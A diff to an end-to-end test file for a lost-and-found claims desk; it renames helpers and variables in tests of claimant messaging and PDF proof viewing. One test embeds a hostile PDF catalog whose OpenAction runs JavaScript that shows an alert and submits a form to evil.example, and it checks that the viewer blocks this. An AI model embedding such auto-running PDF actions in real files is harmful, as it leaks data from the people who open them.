@@ -3,7 +3,7 @@ import { Claimant } from '../../../support/clients.ts';
 import type { Desk } from '../../../support/desk.ts';
 import { pdf, receipt, type UploadFile } from '../../../support/evidence.ts';
 import { claim, reportFound } from '../../../support/http.ts';
-import { hear } from '../../../support/said.ts';
+import { expectMessage } from '../../../support/said.ts';
 import type { Service } from '../../../support/service.ts';
 import { settled } from '../../../support/settled.ts';
 import { expect, own, test } from '../../../support/test.ts';
@@ -25,7 +25,7 @@ test('§3 Claim Requests: the desk asks, the claimant answers, and the answer is
   await expect(conversation.getByText('No messages yet.')).toBeVisible();
   await conversation.getByLabel('Message to the claimant').fill('How many strings does it have?');
   await desk.press('Send Message', conversation);
-  await hear(page, 'Message sent');
+  await expectMessage(page, 'Message sent');
   const log = conversation.getByRole('log');
   await expect(log).toContainText('lost-and-found desk');
   await expect(log).toContainText('How many strings does it have?');
@@ -70,7 +70,7 @@ const openProof = async (
 };
 
 /** How many pixels of a drawn page are not its paper. */
-const inkOf = (page: Locator): Promise<number> =>
+const getInk = (page: Locator): Promise<number> =>
   page.evaluate((element) => {
     const canvas = element as HTMLCanvasElement;
     const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
@@ -91,7 +91,7 @@ test('§2 Claim Requests: a PDF is shown in place, page by page, with its text a
   const viewer = await openProof(desk, service, own('Oboe'), [receipt('oboe.pdf', pages)]);
   const first = viewer.getByRole('img', { name: 'Page 1 of 2 of oboe.pdf, as a picture' });
   await expect(first).toBeVisible();
-  expect(await inkOf(first)).toBeGreaterThan(100);
+  expect(await getInk(first)).toBeGreaterThan(100);
   await viewer.getByText('Text of this page').click();
   await expect(viewer.getByText('Bought in Seville')).toBeVisible();
 
@@ -110,14 +110,14 @@ test('Claim Requests: a PDF that runs, calls or opens something only shows its p
   desk,
   service,
 }) => {
-  const asked: string[] = [];
-  desk.page.on('request', (request) => asked.push(request.url()));
-  desk.page.on('dialog', (dialog) => asked.push(dialog.message()));
+  const requests: string[] = [];
+  desk.page.on('request', (request) => requests.push(request.url()));
+  desk.page.on('dialog', (dialog) => requests.push(dialog.message()));
   const catalog = `/OpenAction << /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example/"\\);) /Next << /S /URI /URI (https://evil.example/) >> >>`;
   const hostile = document('hostile.pdf', pdf({ pages: ['Only this'], catalog }));
   const viewer = await openProof(desk, service, own('Bassoon'), [hostile]);
   await expect(viewer.getByRole('img', { name: /^Page 1 of 1 of hostile\.pdf/ })).toBeVisible();
-  expect(asked.filter((what) => !what.startsWith(service.url) && !what.startsWith('blob:'))).toEqual([]);
+  expect(requests.filter((what) => !what.startsWith(service.url) && !what.startsWith('blob:'))).toEqual([]);
   expect(desk.page.context().pages()).toHaveLength(1);
 });
 
